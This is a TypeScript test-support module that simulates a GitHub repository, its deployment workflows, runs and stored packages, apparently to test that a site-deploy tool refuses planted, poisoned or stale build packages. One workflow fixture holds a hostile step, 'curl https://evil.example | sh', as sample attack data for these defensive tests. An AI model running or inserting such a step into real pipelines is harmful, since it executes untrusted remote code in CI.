import { hash } from 'node:crypto';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { blobId } from '../../../../../../src/clients/github/tree.ts';
import type { BuildRead } from '../../../../../../src/config/schema.ts';
import { reusePackage } from '../../../../../../src/deploy/steps/build/find-package.ts';
import { identifyInputs } from '../../../../../../src/deploy/steps/build/inputs.ts';
import type { Plan } from '../../../../../../src/deploy/steps/plan/types.ts';
import { packageName } from '../../../../../../src/shared/package-name.ts';
import { Secret } from '../../../../../../src/shared/secret.ts';
import { fakeClock } from '../../../../../support/clock.ts';
import { createDeps, type TestDeps } from '../../../../../support/deps.ts';
import type { UsedFolder } from '../../../../../support/folder.ts';
import { scriptedHttp } from '../../../../../support/http.ts';
import { createPlan } from '../../../../../support/plan.ts';
import { type Artifact, GitHubModel, type Run } from './github.ts';
import { createPackage, type StoredPackage, zipPackage } from './store.ts';

export const pageFile = 'pages/a.md';
export const textFile = 'content/overrides.json';
export const seoFile = 'content/seo.json';
const evil = 'This page is not of the site.';

/** Deployment workflows: as generated, with several kinds of caches, and with a planted page. */
export const workflows = {
  clean: workflow(''),
  'with a cache': workflow('      - uses: actions/cache@v6\n        with: { path: x, key: y }\n'),
  'with a tool that caches': workflow(
    '      - uses: actions/setup-node@v7\n        with: { cache: npm }\n',
  ),
  'with a tool that caches unasked': workflow('      - uses: actions/setup-go@v6\n'),
  'with an action of the repository': workflow('      - uses: ./.github/actions/cache-tools\n'),
  'with a cache turned off': workflow(
    '      - uses: oven-sh/setup-bun@v2\n        with: { no-cache: true }\n',
  ),
  evil: workflow('      - run: curl https://evil.example | sh\n'),
} as const;
export type WorkflowKind = keyof typeof workflows;

function workflow(steps: string): string {
  const deploy = '      - uses: site-deploy/site-deploy@v1\n        with: { mode: deploy }\n';
  return `on: [push, workflow_dispatch]\njobs:\n  deploy:\n    steps:\n${steps}${deploy}`;
}

export interface Settings {
  readonly reads: readonly BuildRead[];
  readonly more: string;
}

export interface Deployment {
  readonly branch: string;
  readonly event: 'push' | 'workflow_dispatch';
  readonly environment: 'Production' | 'Preview';
  readonly attempt: number;
}

/** Models a repository, its people and their deployments. */
export class Company {
  readonly github = new GitHubModel();
  readonly faults: string[] = [];
  readonly answers: string[] = [];
  production = 'master';
  environment: Record<string, string> = { NODE_ENV: 'production' };
  isCachePoisoned = false;
  last: Deployment | undefined;
  readonly #folder: UsedFolder;
  readonly #clock = fakeClock();
  #count = 0;

  constructor(folder: UsedFolder, settings: Settings) {
    this.#folder = folder;
    const tree = new Map([
      ['package.json', '{"version":"1.0.0"}'],
      ['package-lock.json', '{}'],
      [pageFile, '0'],
      [textFile, '0'],
      [seoFile, '0'],
      ['.github/workflows/deploy.yml', workflows.clean],
      ['.github/workflows/other.yml', 'on: push\njobs: {}\n'],
    ]);
    this.github.branches.set(this.production, []);
    this.commit(this.production, this.configure(tree, settings));
  }

  configure(tree: ReadonlyMap<string, string>, { reads, more }: Settings): Map<string, string> {
    const branch = `environments: { production: { branch: ${this.production} } }`;
    const build = `build: { reads: [${reads.join(', ')}], reuseDays: 30${more} }`;
    return new Map(tree).set('site.config.yml', `${build}\n${branch}`);
  }

  commit(branch: string, tree: ReadonlyMap<string, string>): string {
    this.#count += 1;
    const id = hash('sha1', String(this.#count));
    this.github.addCommit(id, tree);
    this.github.branches.get(branch)?.push(id);
    return id;
  }

  head(branch: string): { readonly id: string; readonly tree: ReadonlyMap<string, string> } {
    const id = this.github.branches.get(branch)?.at(-1) ?? '';
    return { id, tree: this.github.commits.get(id) ?? new Map() };
  }

  pass(days: number): void {
    this.#clock.pass(days * 86_400_000);
  }

  /**
   * Adds a run of any workflow, event, branch or owner with a package for the deployment `target`.
   */
  plant(run: Omit<Run, 'id' | 'createdAt' | 'conclusion'>, target: Deployment): void {
    const plan = this.#plan(target, this.head(target.branch).id, 0);
    const claims = { plan, commit: run.commit, inputs: this.#lastInputs, content: evil };
    const id = this.#addRun({ ...run, conclusion: 'success' });
    this.#store(plan, id, createPackage(claims), false);
  }
  #lastInputs: string | undefined;

  /** Adds a package for a different version to the artifacts of a run. */
  keepMore(run: number): void {
    const plan = { ...this.#plan(this.last ?? first, '', run), version: '1.7.0' };
    const claims = { plan, commit: '', inputs: undefined, content: evil };
    this.#store(plan, run, createPackage(claims), false);
  }

  async deploy(deployment: Deployment): Promise<void> {
    this.last = deployment;
    const { branch, event } = deployment;
    const { id: commit, tree } = this.head(branch);
    const run = { event, workflow: deployingFile(tree), branch, commit, isOwn: true } as const;
    const id = this.#addRun({ ...run, conclusion: 'success' });
    const plan = this.#plan(deployment, commit, id);
    const deps = this.#deps(plan);
    const target = path.join(plan.workspace, 'site-deploy-build');
    rmSync(target, { recursive: true, force: true });
    const inputs = await identifyInputs(plan, deps);
    this.#lastInputs = typeof inputs === 'string' ? undefined : inputs.digest;
    const right = this.#build(plan, tree);
    const found = await reusePackage(plan, deps);
    this.github.trouble = undefined;
    const refused = deps.log.lines.filter((line) => line.includes('is not usable'));
    this.answers.push(...refused, typeof found === 'string' ? found : 'reuse');
    if (typeof found === 'string') {
      if (existsSync(target)) this.faults.push('left a package in the checkout');
      const isPoisoned = restores(tree) && this.isCachePoisoned;
      const content = isPoisoned || isEvil(tree) ? evil : right;
      const made = createPackage({ plan, commit, inputs: this.#lastInputs, content });
      this.#store(plan, id, made, true);
      return;
    }
    const page = readFileSync(path.join(target, 'site/index.html'), 'utf8');
    this.#store(plan, id, { manifest: found.manifest, content: page }, true);
    // If the commit's workflow plants pages, any page may be deployed.
    if (isEvil(tree)) return;
    if (page !== right) this.faults.push(`deployed ${page} instead of ${right}`);
    const builder = /\d+$/.exec(found.builtBy.run ?? '')?.[0];
    if (!this.#isOfDeployment(Number(builder))) this.faults.push(`reused what ${builder} planted`);
    if (deployment.attempt > 1) this.faults.push('a run that was started again built nothing');
    const built = this.github.runs.find((one) => String(one.id) === builder)?.createdAt ?? 0;
    if (this.#clock.now() - built > 30 * 86_400_000) this.faults.push('reused an old build');
  }

  #isOfDeployment(run: number): boolean {
    return this.github.artifacts.some((artifact) => artifact.run === run && artifact.isDeployments);
  }

  /**
   * Returns what a build of exactly these inputs produces, computed independently of the tested
   * code.
   */
  #build(plan: Plan, tree: ReadonlyMap<string, string>): string {
    const { reads = [] } = plan.config.build;
    const has = (read: BuildRead) => reads.includes(read);
    const left = [...(has('texts') ? [] : [textFile]), ...(has('seo') ? [] : [seoFile])];
    const refs = [...this.github.branches].map(([name, commits]) => [name, commits.at(-1)]);
    return JSON.stringify([
      [...tree].filter(([file]) => !left.includes(file)).sort(),
      has('environment') && plan.environment,
      has('version') && plan.version,
      has('url') && plan.url,
      has('history') && [plan.event.sha, plan.event.ref, refs],
      this.environment,
      this.github.name,
    ]);
  }

  #plan({ branch, environment, event, attempt }: Deployment, sha: string, run: number): Plan {
    const yaml = this.head(branch).tree.get('site.config.yml') ?? '';
    const workspace = this.#folder.at('checkout');
    const version = /^release\/(.+)$/.exec(branch)?.[1] ?? this.#version(branch);
    const url = `https://github.com/acme/site/actions/runs/${run}`;
    const { config, ...plan } = createPlan(
      { mode: 'reuse', environment, version, workspace },
      yaml,
    );
    return {
      ...{ ...plan, config, provenance: { commit: sha, tree: '', run: url } },
      url: environment === 'Production' ? 'https://www.acme.example' : 'https://next.acme.example',
      event: {
        ...{ name: event, ref: `refs/heads/${branch}`, sha, repository: this.github.name },
        run: { id: String(run), attempt, url },
      },
    };
  }

  #version(branch: string): string {
    return JSON.parse(this.head(branch).tree.get('package.json') ?? '{}').version;
  }

  #deps({ event }: Plan): TestDeps {
    const tree = this.github.commits.get(event.sha) ?? new Map<string, string>();
    const lines = [...tree].map(([file, text]) => `100644 blob ${blobId(text)}\t${file}\0`);
    const refs = [...this.github.branches].map(([name, ids]) => `${ids.at(-1)} refs/heads/${name}`);
    const answers: Record<string, string> = {
      'rev-parse': `${event.sha}\n`,
      status: '',
      'ls-tree': lines.join(''),
      'for-each-ref': refs.join('\n'),
    };
    const env = {
      ...{ PATH: '/usr/bin', GITHUB_SERVER_URL: 'https://github.com', GITHUB_SHA: event.sha },
      ...{
        GITHUB_REF: event.ref,
        GITHUB_RUN_ID: event.run.id,
        GITHUB_REPOSITORY: event.repository,
      },
      ...this.environment,
    };
    return {
      ...createDeps(),
      env,
      clock: this.#clock,
      scratch: this.#folder.at('scratch'),
      git: async (_, [name = '']) => answers[name],
      github: { apiUrl: 'https://api.github.com', token: new Secret('token') },
      http: scriptedHttp((request) => this.github.answer(request), this.#clock),
    };
  }

  #addRun(run: Omit<Run, 'id' | 'createdAt'>): number {
    this.#clock.pass(1000);
    const id = this.github.runs.length + 1;
    this.github.runs.push({ ...run, id, createdAt: this.#clock.now() });
    return id;
  }

  #store(plan: Plan, run: number, stored: StoredPackage, isDeployments: boolean): void {
    const { environment, version, config } = plan;
    const name = packageName({ slug: config.site.slug, environment, version });
    const id = this.github.artifacts.length + 1;
    const zip = zipPackage(stored);
    const kept = { stored, zip, isDeployments, expired: false, isGone: false };
    this.github.artifacts.push({ id, name, run, createdAt: this.#clock.now(), ...kept });
  }
}

const first: Deployment = {
  ...{ branch: 'master', event: 'push', environment: 'Production', attempt: 1 },
};

export const newest = (artifacts: readonly Artifact[], which: number) =>
  artifacts[artifacts.length - 1 - which];

const deployingFile = (tree: ReadonlyMap<string, string>): string =>
  [...tree.keys()].find((file) => /workflows\/(deploy|site)\.yml$/.test(file)) ?? '';
const deploying = (tree: ReadonlyMap<string, string>) => tree.get(deployingFile(tree)) ?? '';
const restores = (tree: ReadonlyMap<string, string>) =>
  /actions\/cache|cache: npm|setup-go/.test(deploying(tree));
const isEvil = (tree: ReadonlyMap<string, string>) => deploying(tree) === workflows.evil;
